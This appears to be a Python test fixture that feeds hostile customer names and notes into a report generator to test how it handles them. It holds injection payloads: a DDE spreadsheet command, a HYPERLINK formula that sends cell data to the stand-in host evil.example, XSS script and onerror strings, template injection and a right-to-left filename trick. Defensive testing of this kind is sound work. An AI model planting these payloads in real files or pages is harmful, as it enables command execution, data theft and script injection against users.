"""Names that try to become formulas, markup or commands, and reports about such customers."""

from dataclasses import replace
from functools import cache

from lib.report.blocks import Report
from lib.report.brief import Note
from lib.report.draft import draft
from tests.report import small

# Accounts 1, 4, 14 and 17 are on alert and so are printed.
NAMES = (
    "{{ 7*7 }}{% raw %}",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "<script>window.__xss=1</script>",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "http://evil.example/track.png",
    "{arr_end}",
    "]]><w:p/>&amp;",
    '"><img src=x onerror=alert(1)>',
    "a\x00b\x0bc\x1fd",
    "\u202egnp.exe",
    "\ue000arr_end\ue001",
    "$x^2$ and $y$",
    "A" * 40_000,
)


@cache
def report() -> Report:
    """Return the small report with hostile names, notes and a hostile segment name."""
    brief = small.brief()
    names = [NAMES[i % len(NAMES)] for i in range(len(brief.book))]
    return draft(
        replace(
            brief,
            segment="<b>=1+1</b> {arr_end}",
            book=brief.book.assign(account_name=names),
            accounts=brief.accounts.assign(account_name=names),
            arr_rows=brief.arr_rows.assign(account_name=NAMES[0]),
            context=replace(
                brief.context,
                notes=(Note(small.account_id(4), "<script>alert(1)</script> {nrr} =1+1"),),
            ),
        ),
        "en",
    )
